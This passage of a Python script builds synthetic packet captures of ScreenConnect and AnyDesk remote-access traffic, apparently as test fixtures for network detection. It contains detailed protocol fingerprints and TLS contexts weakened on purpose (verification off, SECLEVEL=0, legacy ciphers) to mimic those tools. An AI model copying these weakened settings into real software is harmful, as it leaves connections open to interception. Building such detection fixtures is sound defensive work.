"""Write the project's own sample captures into pcaps/ (pcaps/README.md says what each one shows).

Run from the repository root:  .venv/bin/python pcaps/generate.py   (needs root for tcpdump on lo)
Name files to write only those:  .venv/bin/python pcaps/generate.py incident-2023.pcap ...

Plain-TCP and UDP captures are crafted with scapy and are byte-for-byte reproducible. TLS captures
are real handshakes between Python ssl endpoints on 127.0.0.1, recorded with tcpdump and then
readdressed; their keys, certificates and random values change on every run, their timestamps and
addresses do not.
"""

from __future__ import annotations

import argparse
import base64
import datetime as dt
import io
import ipaddress
import random
import socket
import ssl
import subprocess
import tempfile
import threading
import time
import urllib.parse
import zipfile
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass, field
from email.utils import formatdate
from pathlib import Path

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.x509.oid import NameOID
from scapy.layers.dns import DNS, DNSQR, DNSRR
from scapy.layers.inet import IP, TCP, UDP
from scapy.layers.l2 import Ether
from scapy.packet import Packet, Raw
from scapy.utils import PcapWriter, rdpcap

OUT_DIR = Path(__file__).resolve().parent

SECOND = 1_000_000_000
MILLI = 1_000_000
MICRO = 1_000
T0 = 1_709_283_600 * SECOND  # 2024-03-01T09:00:00Z, the start of every capture

RESOLVER = "10.20.0.53"
INTERNAL_NET = ipaddress.ip_network("10.20.0.0/16")
ROUTER_MAC = "02:00:0a:14:00:01"  # default gateway: every external address is behind it
WAN_RTT = 24 * MILLI
LAN_RTT = 400 * MICRO
MSS = 1460
TLS_IDLE_MARK = 0.3  # a real pause longer than this (seconds) in a loopback run marks an idle gap

BROWSER_UA = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/122.0.0.0 Safari/537.36"
)
SC_SERVER = "ScreenConnect/19.2.24707.7131"
DOS_STUB = (
    b"MZ\x90\x00" + bytes(56) + b"This program cannot be run in DOS mode.\r\r\n$"
)  # body start

# RFC 7919 ffdhe2048, so the AnyDesk direct-connection server can offer DHE-RSA (suite 0x009f).
FFDHE2048_PEM = b"""-----BEGIN DH PARAMETERS-----
MIIBCAKCAQEA//////////+t+FRYortKmq/cViAnPTzx2LnFg84tNpWp4TZBFGQz
+8yTnc4kmz75fS/jY2MMddj2gbICrsRhetPfHtXV/WVhJDP1H18GbtCFY2VVPe0a
87VXE15/V8k1mE8McODmi3fipona8+/och3xWKE2rec1MKzKT0g6eXq8CrGCsyT7
YdEIqUuyyOP7uWrat2DX9GgdT0Kj3jlN9K5W7edjcrsZCwenyO4KbXCeAvzhzffi
7MA0BM0oNC9hkXL+nOmFg/+OTxIy7vKBg8P+OxtMb61zO7X8vC7CIAXFjvGDfRaD
ssbzSibBsu/6iGtCOGEoXJf//////////wIBAg==
-----END DH PARAMETERS-----
"""

# OpenSSL 3 option bits that Python does not name. Turning them off removes extensions 22 and 23
# so the ClientHello carries the AnyDesk set {11, 10, 35, 16, 13} (protocols.md section 2.3).
OP_NO_EXTENDED_MASTER_SECRET = 0x1
OP_NO_ENCRYPT_THEN_MAC = 0x80000


# --------------------------------------------------------------------------------------------
# Frames and addresses


@dataclass(frozen=True, slots=True)
class Frame:
    ts_ns: int
    pkt: Packet


@dataclass(frozen=True, slots=True)
class Endpoint:
    ip: str
    port: int


def mac_for(ip: str) -> str:
    """Link-layer address on the client LAN: internal hosts by address, the rest via the router."""
    addr = ipaddress.ip_address(ip)
    if addr.is_multicast:
        low = int(addr) & 0x7FFFFF
        return f"01:00:5e:{low >> 16:02x}:{(low >> 8) & 0xFF:02x}:{low & 0xFF:02x}"
    if addr == INTERNAL_NET.broadcast_address:
        return "ff:ff:ff:ff:ff:ff"
    if addr in INTERNAL_NET:
        b = addr.packed
        return f"02:0a:14:00:{b[2]:02x}:{b[3]:02x}"
    return ROUTER_MAC


def ttl_for(ip: str) -> int:
    # Packets from the internet arrive after several hops; LAN hosts are Windows-like (128).
    return 128 if ipaddress.ip_address(ip) in INTERNAL_NET else 51


def ip_layer(src: str, dst: str, ip_id: int) -> Packet:
    ttl = 1 if ipaddress.ip_address(dst).is_multicast else ttl_for(src)
    return Ether(src=mac_for(src), dst=mac_for(dst)) / IP(
        src=src, dst=dst, ttl=ttl, id=ip_id & 0xFFFF, flags="DF"
    )


def udp_frame(ts_ns: int, src: Endpoint, dst: Endpoint, payload: bytes, ip_id: int) -> Frame:
    pkt = ip_layer(src.ip, dst.ip, ip_id) / UDP(sport=src.port, dport=dst.port) / Raw(payload)
    return Frame(ts_ns, Ether(bytes(pkt)))


def dns_lookup(
    ts_ns: int, client: str, qname: str, answers: Sequence[str], *, sport: int, txid: int
) -> list[Frame]:
    """A query for an A record and its answer from the site resolver 4 ms later."""
    query = DNS(id=txid, rd=1, qd=DNSQR(qname=qname, qtype="A"))
    reply = DNS(
        id=txid,
        qr=1,
        rd=1,
        ra=1,
        qd=DNSQR(qname=qname, qtype="A"),
        an=[DNSRR(rrname=qname, type="A", ttl=300, rdata=a) for a in answers],
    )
    c, r = Endpoint(client, sport), Endpoint(RESOLVER, 53)
    q_pkt = ip_layer(c.ip, r.ip, txid) / UDP(sport=c.port, dport=53) / query
    a_pkt = ip_layer(r.ip, c.ip, txid + 7) / UDP(sport=53, dport=c.port) / reply
    return [Frame(ts_ns, Ether(bytes(q_pkt))), Frame(ts_ns + 4 * MILLI, Ether(bytes(a_pkt)))]


# --------------------------------------------------------------------------------------------
# Crafted TCP


@dataclass(slots=True)
class TcpFlow:
    """One crafted TCP connection with consistent sequence/ack numbers and per-host IP ids."""

    client: Endpoint
    server: Endpoint
    t_ns: int
    rtt_ns: int
    isn_client: int
    isn_server: int
    frames: list[Frame] = field(default_factory=list)
    _next_seq: dict[bool, int] = field(default_factory=dict)
    _ip_id: dict[bool, int] = field(default_factory=dict)
    _last_from_client: bool | None = None

    def __post_init__(self) -> None:
        self._next_seq = {True: self.isn_client, False: self.isn_server}
        self._ip_id = {True: self.isn_client >> 16, False: self.isn_server >> 16}

    def _advance_clock(self, from_client: bool) -> None:
        if self._last_from_client is None:
            return
        if self._last_from_client != from_client:
            self.t_ns += self.rtt_ns // 2
        else:
            self.t_ns += 30 * MICRO

    def emit(self, from_client: bool, flags: str, payload: bytes = b"") -> None:
        self._advance_clock(from_client)
        self._last_from_client = from_client
        src, dst = (self.client, self.server) if from_client else (self.server, self.client)
        seq = self._next_seq[from_client]
        ack = self._next_seq[not from_client] if "A" in flags else 0
        options: list[tuple[str, object]] = []
        if "S" in flags:
            options = [("MSS", MSS), ("NOP", None), ("NOP", None), ("SAckOK", b"")]
        tcp = TCP(
            sport=src.port,
            dport=dst.port,
            seq=seq,
            ack=ack,
            flags=flags,
            window=64240 if from_client else 65535,
            options=options,
        )
        pkt = ip_layer(src.ip, dst.ip, self._ip_id[from_client]) / tcp
        if payload:
            pkt = pkt / Raw(payload)
        self._ip_id[from_client] += 1
        consumed = len(payload) + ("S" in flags) + ("F" in flags)
        self._next_seq[from_client] = (seq + consumed) & 0xFFFFFFFF
        self.frames.append(Frame(self.t_ns, Ether(bytes(pkt))))

    def open(self) -> None:
        self.emit(True, "S")
        self.emit(False, "SA")
        self.emit(True, "A")

    def send(self, from_client: bool, data: bytes, *, acked: bool = True) -> None:
        """Send data in MSS-sized segments; the peer then acknowledges it with a bare ACK."""
        chunks = [data[i : i + MSS] for i in range(0, len(data), MSS)]
        for i, chunk in enumerate(chunks):
            self.emit(from_client, "PA" if i == len(chunks) - 1 else "A", chunk)
        if acked:
            self.emit(not from_client, "A")

    def idle(self, ns: int) -> None:
        self.t_ns += ns

    def close(self, from_client: bool = True) -> None:
        self.emit(from_client, "FA")
        self.emit(not from_client, "FA")
        self.emit(from_client, "A")

    def reset(self, from_client: bool) -> None:
        self.emit(from_client, "RA")


def http_message(start_line: str, headers: Sequence[tuple[str, str]], body: bytes = b"") -> bytes:
    head = "".join(f"{k}: {v}\r\n" for k, v in headers)
    return f"{start_line}\r\n{head}\r\n".encode("ascii") + body


def http_date(ts_ns: int) -> str:
    return formatdate(ts_ns / SECOND, usegmt=True)


# --------------------------------------------------------------------------------------------
# Real TLS over loopback, readdressed


@dataclass(frozen=True, slots=True)
class TlsRun:
    """One TLS connection to record: contexts, SNI, and (client message, server reply) pairs."""

    server_ctx: ssl.SSLContext
    client_ctx: ssl.SSLContext
    sni: str | None
    exchanges: tuple[tuple[bytes, bytes], ...]
    pause_s: float = 0.6  # real pause between exchanges; becomes idle_ns in the capture


def _recv_exact(sock: ssl.SSLSocket, n: int) -> bytes:
    buf = b""
    while len(buf) < n:
        chunk = sock.recv(n - len(buf))
        if not chunk:
            raise ConnectionError("peer closed early")
        buf += chunk
    return buf


def _serve_once(listener: socket.socket, run: TlsRun, errors: list[BaseException]) -> None:
    try:
        conn, _ = listener.accept()
        conn.settimeout(10)
        with run.server_ctx.wrap_socket(conn, server_side=True) as tls:
            for request, reply in run.exchanges:
                _recv_exact(tls, len(request))
                tls.sendall(reply)
            if tls.recv(1) == b"":  # the client's close_notify
                tls.unwrap()
    except (OSError, ssl.SSLError) as exc:
        errors.append(exc)


def _start_tcpdump(port: int, path: Path) -> subprocess.Popen[bytes]:
    # --immediate-mode: without it, packets still in a TPACKET_V3 block are lost on SIGTERM.
    command = ["tcpdump", "-i", "lo", "--immediate-mode", "-U", "-n", "-s", "0", "-w", str(path)]
    proc = subprocess.Popen(
        [*command, f"tcp port {port}"],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
    )
    lines = []
    for _ in range(5):  # tcpdump says "listening on lo" once its filter is in place
        line = proc.stderr.readline() if proc.stderr is not None else b""
        lines.append(line)
        if b"listening on" in line:
            return proc
        if not line:
            break
    proc.kill()
    proc.wait()
    raise RuntimeError(f"tcpdump did not start: {lines!r}")


def record_tls(run: TlsRun, workdir: Path) -> tuple[list[tuple[float, Packet]], int]:
    """Run one real TLS connection on 127.0.0.1 and return the captured packets and server port."""
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen(1)
        port = listener.getsockname()[1]
        path = workdir / f"lo-{port}.pcap"
        proc = _start_tcpdump(port, path)
        errors: list[BaseException] = []
        server = threading.Thread(target=_serve_once, args=(listener, run, errors))
        server.start()
        try:
            raw = socket.create_connection(("127.0.0.1", port), timeout=10)
            with run.client_ctx.wrap_socket(raw, server_hostname=run.sni) as tls:
                for i, (request, reply) in enumerate(run.exchanges):
                    if i:
                        time.sleep(run.pause_s)
                    tls.sendall(request)
                    _recv_exact(tls, len(reply))
                tls.unwrap()
        finally:
            server.join(timeout=15)
            time.sleep(0.5)
            proc.terminate()
            proc.communicate(timeout=10)
        if errors:
            raise errors[0]
    packets = [p for p in rdpcap(str(path)) if TCP in p]
    fins = {p[TCP].sport for p in packets if p[TCP].flags.F}
    if not packets or packets[0][TCP].flags != "S" or len(fins) != 2:
        raise RuntimeError(f"incomplete loopback capture on port {port}: {len(packets)} packets")
    return [(float(p.time), p) for p in packets], port


def readdress(
    captured: Sequence[tuple[float, Packet]],
    lo_port: int,
    client: Endpoint,
    server: Endpoint,
    *,
    start_ns: int,
    rtt_ns: int,
    idle_ns: int,
) -> list[Frame]:
    """Move a loopback capture onto the given addresses with deterministic timestamps.

    Loopback has a 64 KB MTU, so segments larger than an Ethernet MSS are split again; MSS
    options are rewritten to match. Checksums and lengths are recomputed by building anew.
    """
    frames: list[Frame] = []
    ip_ids = {True: 0x4A00, False: 0x1C00}
    t_ns = start_ns
    prev: tuple[float, bool] | None = None
    for real_ts, pkt in captured:
        tcp = pkt[TCP]
        from_client = tcp.dport == lo_port
        if prev is not None:
            if real_ts - prev[0] > TLS_IDLE_MARK:
                t_ns += idle_ns
            elif from_client != prev[1]:
                t_ns += rtt_ns // 2
            else:
                t_ns += 40 * MICRO
        prev = (real_ts, from_client)
        src, dst = (client, server) if from_client else (server, client)
        options = [("MSS", MSS) if name == "MSS" else (name, val) for name, val in tcp.options]
        payload = bytes(tcp.payload)
        seg_max = MSS - 12 if any(name == "Timestamp" for name, _ in options) else MSS
        pieces = [payload[i : i + seg_max] for i in range(0, len(payload), seg_max)] or [b""]
        offset = 0
        for n, piece in enumerate(pieces):
            last = n == len(pieces) - 1
            flags = int(tcp.flags)
            if not last:
                flags &= ~0x09  # FIN and PSH belong to the final piece only
            new_tcp = TCP(
                sport=src.port,
                dport=dst.port,
                seq=(tcp.seq + offset) & 0xFFFFFFFF,
                ack=tcp.ack,
                flags=flags,
                window=tcp.window,
                options=options,
            )
            new = ip_layer(src.ip, dst.ip, ip_ids[from_client]) / new_tcp
            if piece:
                new = new / Raw(piece)
            ip_ids[from_client] += 1
            offset += len(piece)
            frames.append(Frame(t_ns, Ether(bytes(new))))
            if not last:
                t_ns += 20 * MICRO
    return frames


# --------------------------------------------------------------------------------------------
# Certificates


@dataclass(frozen=True, slots=True)
class Credential:
    """A certificate chain and key written to disk for ssl.load_cert_chain."""

    chain_file: Path
    cert_pem: bytes


def utc(y: int, m: int, d: int) -> dt.datetime:
    return dt.datetime(y, m, d, tzinfo=dt.UTC)


def name(*parts: tuple[x509.ObjectIdentifier, str]) -> x509.Name:
    return x509.Name([x509.NameAttribute(oid, value) for oid, value in parts])


def make_cert(
    subject: x509.Name,
    key: rsa.RSAPrivateKey | ec.EllipticCurvePrivateKey,
    issuer: x509.Name,
    issuer_key: rsa.RSAPrivateKey | ec.EllipticCurvePrivateKey,
    *,
    serial: int,
    valid: tuple[dt.datetime, dt.datetime],
    ca: bool = False,
    dns_names: Sequence[str] = (),
) -> x509.Certificate:
    builder = (
        x509.CertificateBuilder()
        .subject_name(subject)
        .issuer_name(issuer)
        .public_key(key.public_key())
        .serial_number(serial)
        .not_valid_before(valid[0])
        .not_valid_after(valid[1])
    )
    if ca:
        builder = builder.add_extension(x509.BasicConstraints(ca=True, path_length=None), True)
    if dns_names:
        san = x509.SubjectAlternativeName([x509.DNSName(n) for n in dns_names])
        builder = builder.add_extension(san, critical=False)
    return builder.sign(issuer_key, hashes.SHA256())


def save(
    workdir: Path,
    label: str,
    key: rsa.RSAPrivateKey | ec.EllipticCurvePrivateKey,
    chain: Sequence[x509.Certificate],
) -> Credential:
    pem = b"".join(c.public_bytes(serialization.Encoding.PEM) for c in chain)
    key_pem = key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    )
    path = workdir / f"{label}.pem"
    path.write_bytes(pem + key_pem)
    return Credential(path, chain[0].public_bytes(serialization.Encoding.PEM))


def rsa_key() -> rsa.RSAPrivateKey:
    return rsa.generate_private_key(public_exponent=65537, key_size=2048)


def anydesk_client_credential(workdir: Path, label: str, issued: dt.datetime) -> Credential:
    """Self-signed CN=AnyDesk Client, serial 1, about 50 years valid (protocols.md 2.3)."""
    key = rsa_key()
    subject = name((NameOID.COMMON_NAME, "AnyDesk Client"))
    until = issued + dt.timedelta(days=18_250)
    cert = make_cert(subject, key, subject, key, serial=1, valid=(issued, until))
    return save(workdir, label, key, [cert])


def anynet_relay_credential(workdir: Path) -> Credential:
    """EC leaf CN=AnyNet Relay signed by the RSA CN=AnyNet Root CA, with the published dates."""
    org = "philandro Software GmbH"
    root_key = rsa_key()
    root_name = name(
        (NameOID.COUNTRY_NAME, "DE"),
        (NameOID.ORGANIZATION_NAME, org),
        (NameOID.COMMON_NAME, "AnyNet Root CA"),
    )
    root = make_cert(
        root_name,
        root_key,
        root_name,
        root_key,
        serial=0x87FB0D0CB7B18BE8,
        valid=(utc(2014, 4, 11), utc(2024, 4, 8)),
        ca=True,
    )
    leaf_key = ec.generate_private_key(ec.SECP256R1())
    leaf_name = name(
        (NameOID.COUNTRY_NAME, "DE"),
        (NameOID.ORGANIZATION_NAME, org),
        (NameOID.COMMON_NAME, "AnyNet Relay"),
    )
    leaf = make_cert(
        leaf_name,
        leaf_key,
        root_name,
        root_key,
        serial=0xF188307674532493,
        valid=(utc(2018, 11, 18), utc(2028, 11, 15)),
    )
    return save(workdir, "anynet-relay", leaf_key, [leaf, root])


@dataclass(frozen=True, slots=True)
class WebPki:
    """A small private CA for the ordinary (non-RMM) TLS servers."""

    key: rsa.RSAPrivateKey
    cert: x509.Certificate
    ca_pem: str

    @classmethod
    def create(cls) -> WebPki:
        key = rsa_key()
        subject = name(
            (NameOID.COUNTRY_NAME, "US"),
            (NameOID.ORGANIZATION_NAME, "Example Test PKI"),
            (NameOID.COMMON_NAME, "Example Test Issuing CA"),
        )
        cert = make_cert(
            subject,
            key,
            subject,
            key,
            serial=0x1001,
            valid=(utc(2023, 1, 1), utc(2043, 1, 1)),
            ca=True,
        )
        return cls(key, cert, cert.public_bytes(serialization.Encoding.PEM).decode("ascii"))

    def issue(self, workdir: Path, cn: str, serial: int) -> Credential:
        key = rsa_key()
        subject = name((NameOID.COMMON_NAME, cn))
        leaf = make_cert(
            subject,
            key,
            self.cert.subject,
            self.key,
            serial=serial,
            valid=(utc(2024, 1, 15), utc(2034, 1, 12)),
            dns_names=[cn],
        )
        return save(workdir, cn.replace("*", "star"), key, [leaf, self.cert])


# --------------------------------------------------------------------------------------------
# TLS contexts


def anydesk_client_ctx(cred: Credential, alpn: str | None) -> ssl.SSLContext:
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.minimum_version = ssl.TLSVersion.TLSv1_2
    ctx.maximum_version = ssl.TLSVersion.TLSv1_2
    # A long legacy list like the real client's (CBC, DHE and static-RSA suites, then SCSV 0x00ff).
    ctx.set_ciphers("ALL:!aNULL:!eNULL:!PSK:!SRP:!ARIA:!CAMELLIA:@SECLEVEL=0")
    ctx.options |= OP_NO_EXTENDED_MASTER_SECRET | OP_NO_ENCRYPT_THEN_MAC
    ctx.load_cert_chain(cred.chain_file)
    if alpn is not None:
        ctx.set_alpn_protocols([alpn])
    return ctx


def anydesk_server_ctx(
    cred: Credential, client_cert_pem: bytes, ciphers: str, dh_file: Path | None
) -> ssl.SSLContext:
    """TLS 1.2 only; asks for and checks the peer's self-signed CN=AnyDesk Client certificate."""
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.minimum_version = ssl.TLSVersion.TLSv1_2
    ctx.maximum_version = ssl.TLSVersion.TLSv1_2
    ctx.set_ciphers(ciphers)
    if dh_file is not None:
        ctx.load_dh_params(str(dh_file))
    ctx.load_cert_chain(cred.chain_file)
    ctx.verify_mode = ssl.CERT_REQUIRED
    ctx.load_verify_locations(cadata=client_cert_pem.decode("ascii"))
    return ctx


def web_server_ctx(cred: Credential) -> ssl.SSLContext:
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(cred.chain_file)
    return ctx


def web_client_ctx(pki: WebPki) -> ssl.SSLContext:
    ctx = ssl.create_default_context(cadata=pki.ca_pem)
    ctx.minimum_version = ssl.TLSVersion.TLSv1_3
    return ctx


# --------------------------------------------------------------------------------------------
# ScreenConnect payloads


def _is_probable_prime(n: int, rng: random.Random) -> bool:
    if n < 4:
        return n in (2, 3)
    for p in (2, 3, 5, 7, 11, 13, 17, 19, 23, 29, 31, 37):
        if n % p == 0:
            return n == p
    d, r = n - 1, 0
    while d % 2 == 0:
        d, r = d // 2, r + 1
    for _ in range(32):
        x = pow(rng.randrange(2, n - 1), d, n)
        if x in (1, n - 1):
            continue
        for _ in range(r - 1):
            x = pow(x, 2, n)
            if x == n - 1:
                break
        else:
            return False
    return True


def _prime(bits: int, rng: random.Random) -> int:
    while True:
        # Top two bits set so that the product of two such primes has exactly 2*bits bits.
        candidate = rng.getrandbits(bits) | (3 << (bits - 2)) | 1
        if _is_probable_prime(candidate, rng):
            return candidate


def relay_public_key_blob(seed: int) -> bytes:
    """A 148-byte CryptoAPI PUBLICKEYBLOB for a reproducible RSA-1024 key (protocols.md 1.3)."""
    rng = random.Random(seed)
    e = 65537
    while True:
        p, q = _prime(512, rng), _prime(512, rng)
        if p != q and (p - 1) % e and (q - 1) % e:
            break
    n = p * q
    rsa.RSAPublicNumbers(e, n).public_key()  # rejects a malformed key
    header = bytes([0x06, 0x02, 0x00, 0x00]) + (0xA400).to_bytes(4, "little")  # CALG_RSA_KEYX
    rsapubkey = b"RSA1" + (1024).to_bytes(4, "little") + e.to_bytes(4, "little")
    return header + rsapubkey + n.to_bytes(128, "little")


def sc_relay_hello(kind: int, rng: random.Random, size: int) -> bytes:
    """First client payload of the 0x87 relay family: 87 kind 10 00, 12 zero bytes, opaque rest."""
    return bytes([0x87, kind, 0x10, 0x00]) + bytes(12) + rng.randbytes(size - 16)


def sc_relay_hello_m3(rng: random.Random) -> bytes:
    """M3 layout per ET sid 2048143: offset 23 = 01, offset 24 = L, byte 25+L = 01."""
    prefix = bytes([0x87, 0x12, 0x10, 0x00]) + bytes(12)
    between = bytes([0x00, 0x00, 0x00, 0x02, 0x00, 0x00, 0x00])  # offsets 16..22
    token = rng.randbytes(32)
    body = bytes([0x01, len(token)]) + token + bytes([0x01]) + rng.randbytes(120)
    return prefix + between + body


def sc_relay_hello_legacy(host: str, rng: random.Random) -> bytes:
    """Older relay hello: 73 10 + 16 zero bytes at offset 6, version tag 4, hostname, 0x01."""
    lead = bytes([0x00, 0x00, 0x00, 0x5C, 0x01, 0x00])
    token = bytes([0x73, 0x10]) + bytes(16)
    return lead + token + b"\x04" + host.encode("ascii") + b"\x01" + rng.randbytes(40)


def relay_session(
    flow: TcpFlow, hello: bytes, rng: random.Random, keepalives: int, keepalive_gap_ns: int
) -> None:
    """Client speaks first, then opaque records both ways and periodic small exchanges."""
    flow.open()
    flow.send(True, hello)
    flow.send(False, rng.randbytes(148))
    flow.send(True, rng.randbytes(276))
    flow.send(False, rng.randbytes(612))
    flow.send(True, rng.randbytes(1880))  # spans two segments
    flow.send(False, rng.randbytes(96))
    for _ in range(keepalives):
        flow.idle(keepalive_gap_ns)
        flow.send(True, rng.randbytes(32))
        flow.send(False, rng.randbytes(32))
    flow.close(from_client=True)


# --------------------------------------------------------------------------------------------
# Capture builders


@dataclass(frozen=True, slots=True)
class Env:
    workdir: Path
    pki: WebPki
    frontdesk: Credential  # AnyDesk client certificate of 10.20.0.31
    lab_peer: Credential  # AnyDesk client certificate of 10.20.0.77
    outside_peer: Credential  # AnyDesk client certificate of 198.51.100.99
    pharmacy: Credential  # AnyDesk client certificate of 10.20.0.61 (incident-2023.pcap)
    relay: Credential
    dh_file: Path


def build_sc_relay_m1() -> list[Frame]:
    rng = random.Random(101)
    client = "10.20.0.21"
    frames = dns_lookup(
        T0, client, "support.vendor.example", ["198.51.100.7"], sport=53001, txid=0x1A01
    )
    flow = TcpFlow(
        Endpoint(client, 50111),
        Endpoint("198.51.100.7", 8041),
        T0 + 40 * MILLI,
        WAN_RTT,
        0x1A2B3C4D,
        0x7E6D5C4B,
    )
    relay_session(flow, sc_relay_hello(0x15, rng, 216), rng, 4, 15 * SECOND)
    return frames + flow.frames


def build_sc_relay_m2() -> list[Frame]:
    rng = random.Random(102)
    client = "10.20.0.22"
    host = "instance-ab12cd-relay.screenconnect.com"
    frames = dns_lookup(T0, client, host, ["203.0.113.10"], sport=53002, txid=0x1A02)
    flow = TcpFlow(
        Endpoint(client, 50122),
        Endpoint("203.0.113.10", 443),
        T0 + 40 * MILLI,
        WAN_RTT,
        0x22334455,
        0x66778899,
    )
    relay_session(flow, sc_relay_hello(0x1C, rng, 248), rng, 2, 15 * SECOND)
    return frames + flow.frames


def build_sc_relay_m3() -> list[Frame]:
    rng = random.Random(103)
    flow = TcpFlow(
        Endpoint("10.20.0.23", 50133),
        Endpoint("198.51.100.17", 8041),
        T0,
        WAN_RTT,
        0x31415926,
        0x27182818,
    )
    relay_session(flow, sc_relay_hello_m3(rng), rng, 2, 15 * SECOND)
    return flow.frames


def build_sc_relay_legacy() -> list[Frame]:
    rng = random.Random(104)
    client = "10.20.0.24"
    host = "relay.legacy-vendor.example"
    frames = dns_lookup(T0, client, host, ["198.51.100.23"], sport=53004, txid=0x1A04)
    flow = TcpFlow(
        Endpoint(client, 50144),
        Endpoint("198.51.100.23", 8041),
        T0 + 40 * MILLI,
        WAN_RTT,
        0x0BADC0DE,
        0x0DDBA11F,
    )
    relay_session(flow, sc_relay_hello_legacy(host, rng), rng, 1, 15 * SECOND)
    return frames + flow.frames


def sc_installer_query(blob: bytes, relay_host: str = "support.vendor.example") -> str:
    k = urllib.parse.quote(base64.b64encode(blob).decode("ascii"), safe="")
    custom = "&c=Acme" + "&c=" * 7
    return f"e=Access&y=Guest&h={relay_host}&p=8041&k={k}{custom}"


def build_sc_web_onprem() -> list[Frame]:
    client, server, host = "10.20.0.21", "198.51.100.7", "support.vendor.example"
    frames = dns_lookup(T0, client, host, [server], sport=53011, txid=0x1B01)
    common = [
        ("Host", f"{host}:8040"),
        ("User-Agent", BROWSER_UA),
        ("Accept", "text/html,application/xhtml+xml,*/*;q=0.8"),
        ("Accept-Language", "en-US,en;q=0.9"),
        ("Connection", "close"),
    ]
    # 1: the technician console redirects an unauthenticated browser to the login page.
    first = TcpFlow(
        Endpoint(client, 50211), Endpoint(server, 8040), T0 + 40 * MILLI, WAN_RTT, 0x10000, 0x20000
    )
    first.open()
    first.send(True, http_message("GET /Host HTTP/1.1", common))
    location = "/Login?Reason=0&ReturnUrl=%2fHost"
    moved = (
        '<html><head><title>Object moved</title></head><body>\r\n<h2>Object moved to <a href="'
        f'{location.replace("&", "&amp;")}">here</a>.</h2>\r\n</body></html>\r\n'
    ).encode("ascii")
    first.send(
        False,
        http_message(
            "HTTP/1.1 302 Found",
            [
                ("Cache-Control", "private"),
                ("Content-Type", "text/html; charset=utf-8"),
                ("Location", location),
                ("Server", SC_SERVER),
                ("Date", http_date(first.t_ns)),
                ("Connection", "close"),
                ("Content-Length", str(len(moved))),
            ],
            moved,
        ),
    )
    first.close(from_client=False)
    # 2: the guest installer download; its query string carries the relay host, port and key.
    second = TcpFlow(
        Endpoint(client, 50212),
        Endpoint(server, 8040),
        first.t_ns + 2 * SECOND,
        WAN_RTT,
        0x30000,
        0x40000,
    )
    second.open()
    path = f"/Bin/ScreenConnect.ClientSetup.exe?{sc_installer_query(relay_public_key_blob(7))}"
    second.send(True, http_message(f"GET {path} HTTP/1.1", common))
    body = DOS_STUB + bytes(400)
    second.send(
        False,
        http_message(
            "HTTP/1.1 200 OK",
            [
                ("Cache-Control", "private"),
                ("Content-Type", "application/octet-stream"),
                ("Content-Disposition", "attachment; filename=ScreenConnect.ClientSetup.exe"),
                ("Server", SC_SERVER),
                ("Date", http_date(second.t_ns)),
                ("Connection", "close"),
                ("Content-Length", str(len(body))),
            ],
            body,
        ),
    )
    second.close(from_client=False)
    return frames + first.frames + second.frames


def build_sc_web_cloud_tls(env: Env) -> list[Frame]:
    client, server, host = "10.20.0.22", "203.0.113.20", "acme.screenconnect.com"
    frames = dns_lookup(T0, client, host, [server], sport=53012, txid=0x1B02)
    cred = env.pki.issue(env.workdir, "*.screenconnect.com", 0x2001)
    request = http_message(
        "GET /Host HTTP/1.1", [("Host", host), ("User-Agent", BROWSER_UA), ("Accept", "*/*")]
    )
    run = TlsRun(
        web_server_ctx(cred),
        web_client_ctx(env.pki),
        host,
        ((request, b"HTTP/1.1 302 Found\r\nLocation: /Login\r\nContent-Length: 0\r\n\r\n"),),
    )
    captured, port = record_tls(run, env.workdir)
    return frames + readdress(
        captured,
        port,
        Endpoint(client, 50222),
        Endpoint(server, 443),
        start_ns=T0 + 40 * MILLI,
        rtt_ns=WAN_RTT,
        idle_ns=SECOND,
    )


def anydesk_exchanges(rng: random.Random, keepalives: int) -> tuple[tuple[bytes, bytes], ...]:
    # Keep-alives carry 20-22 bytes, i.e. 49-51-byte TLS 1.2 GCM records (protocols.md 2.3).
    first = (rng.randbytes(180), rng.randbytes(420))
    rest = tuple((rng.randbytes(20), rng.randbytes(22)) for _ in range(keepalives))
    return (first, *rest)


def anydesk_relay_run(env: Env, rng: random.Random, client: Credential | None = None) -> TlsRun:
    """An AnyDesk client (FRONTDESK-PC unless another certificate is given) at an AnyNet relay."""
    cred = client or env.frontdesk
    return TlsRun(
        anydesk_server_ctx(env.relay, cred.cert_pem, "ECDHE-ECDSA-AES256-GCM-SHA384", None),
        anydesk_client_ctx(cred, "anydesk/7.1.0/windows"),
        None,
        anydesk_exchanges(rng, 3),
    )


def build_ad_relay_tls(env: Env) -> list[Frame]:
    client, server = "10.20.0.31", "203.0.113.40"
    frames = dns_lookup(
        T0, client, "relay-0a1b2c3d.net.anydesk.com", [server], sport=53021, txid=0x2A01
    )
    captured, port = record_tls(anydesk_relay_run(env, random.Random(201)), env.workdir)
    return frames + readdress(
        captured,
        port,
        Endpoint(client, 50311),
        Endpoint(server, 443),
        start_ns=T0 + 40 * MILLI,
        rtt_ns=WAN_RTT,
        idle_ns=15 * SECOND,
    )


def build_ad_relay_6568(env: Env) -> list[Frame]:
    captured, port = record_tls(anydesk_relay_run(env, random.Random(202)), env.workdir)
    return readdress(
        captured,
        port,
        Endpoint("10.20.0.31", 50312),
        Endpoint("203.0.113.40", 6568),
        start_ns=T0,
        rtt_ns=WAN_RTT,
        idle_ns=15 * SECOND,
    )


def anydesk_direct(
    env: Env, client_cred: Credential, server_cred: Credential, seed: int
) -> tuple[list[tuple[float, Packet]], int]:
    run = TlsRun(
        anydesk_server_ctx(
            server_cred, client_cred.cert_pem, "DHE-RSA-AES256-GCM-SHA384", env.dh_file
        ),
        anydesk_client_ctx(client_cred, None),
        None,
        anydesk_exchanges(random.Random(seed), 2),
    )
    return record_tls(run, env.workdir)


def build_ad_direct_7070(env: Env) -> list[Frame]:
